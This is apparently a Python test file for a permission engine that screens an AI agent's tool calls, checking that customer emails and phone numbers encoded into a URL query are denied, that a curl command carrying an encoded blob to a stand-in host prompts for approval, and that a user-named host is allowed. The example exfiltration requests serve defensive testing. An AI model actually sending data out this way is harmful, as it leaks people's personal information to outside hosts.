"""Data carried in a URL's query is an upload (AM-EXFIL-024, knowledge.urldata)."""

from __future__ import annotations

from automode.knowledge import urldata
from tests.engine.helpers import decide

RECORDS = "https://json-pretty.example/api/format?data=%5B%7B%22email%22%3A%22m.okafor%40mail.example%22%2C%22phone%22%3A%22%2B44%2020%207946%200811%22%7D%5D"


def fetch(url: str, *said: str) -> dict[str, object]:
    return {"tool": "WebFetch", "input": {"url": url, "prompt": "format it"}, "context": {"user_messages": list(said)}}


def test_customer_records_sent_to_an_unnamed_formatter_are_denied() -> None:
    d = decide(fetch(RECORDS, "pretty-print exports/referrals.json, it is unreadable"))
    assert d.verdict == "deny" and "AM-EXFIL-024" in d.rules and "json-pretty.example" in d.reason


def test_an_encoded_blob_in_a_url_asks() -> None:
    blob = "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZy4gVGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZy4gQWdhaW4h"
    assert decide(f"curl -s https://c.example/p?x={blob}").verdict == "ask"


def test_the_host_the_user_named_receives_the_data() -> None:
    assert decide(fetch(RECORDS, "send the export to json-pretty.example, that is our vendor's formatter")).verdict == "allow"


def test_what_counts_as_data() -> None:
    assert urldata.carried(RECORDS) is not None
    assert urldata.carried("https://x.example/?q=how+to+pretty+print+json&page=2") is None
    assert urldata.carried("https://x.example/subscribe?email=ann@mail.example") is None  # one address: a sign-up
    assert urldata.carried("https://x.example/a?id=12345678901234567890123456") is None  # an id, not a payload
    assert urldata.carried("https://x.example/?d=" + "A" * 200) is None  # decodes to bytes, not text
    assert urldata.carried("https://x.example/?" + "a=b&" * 50_000) is None  # bounded on hostile input
